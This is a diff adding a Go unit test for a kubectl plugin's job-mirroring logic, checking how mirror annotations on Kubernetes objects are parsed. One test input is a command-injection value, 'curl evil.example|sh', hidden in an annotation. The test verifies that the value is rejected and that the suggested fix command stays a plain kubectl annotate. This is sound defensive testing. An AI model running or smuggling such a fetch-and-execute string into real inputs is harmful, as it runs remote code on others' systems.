@@ -1,0 +1,40 @@
+package dispatch
+
+import (
+	"testing"
+
+	"gotest.tools/v3/assert"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+
+	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/apiserver"
+)
+
+// TestExpectNoPlace: where a mark names no object, the mirror may be anywhere, and no
+// second one is made.
+func TestExpectNoPlace(t *testing.T) {
+	side := func(context string) *apiserver.Side { return &apiserver.Side{Context: context, ClusterUID: context} }
+	at := &task{Loop: &Loop{origin: side("management"), worker: side("worker-1")}, Task: Task{Kind: delegation.Job()}}
+	at.ref = apiserver.RefTo(at.origin, at.Kind.GroupVersionKind(), "ml", "train", "uid-of-train")
+	at.mirrorRef = apiserver.RefTo(at.worker, at.Kind.GroupVersionKind(), "ml", "train", "")
+	origin := &unstructured.Unstructured{}
+	assert.NilError(t, at.expect(origin))
+	origin.SetAnnotations(map[string]string{delegation.MirrorAnnotation: "worker-1/ml/train/uid-of-mirror"})
+	assert.NilError(t, at.expect(origin))
+	assert.Equal(t, at.mirrorRef.UID, "uid-of-mirror")
+
+	at.mirrorRef.UID = ""
+	origin.SetAnnotations(map[string]string{delegation.MirrorAnnotation: "worker-1/x; curl evil.example|sh #/train/uid"})
+	err := at.expect(origin)
+	assert.ErrorContains(t, err, "names no object, so it is not known where its mirror is")
+	assert.Equal(t, at.mirrorRef.UID, "")
+	for _, part := range command.Prose(err.Error()).Parts() {
+		if part.IsCommand {
+			assert.DeepEqual(t, shelltest.Words(t, part.Text), []string{
+				"kubectl", "--context", "management", "-n", "ml", "annotate", "job", "train", delegation.MirrorAnnotation + "-",
+			})
+		}
+	}
+}
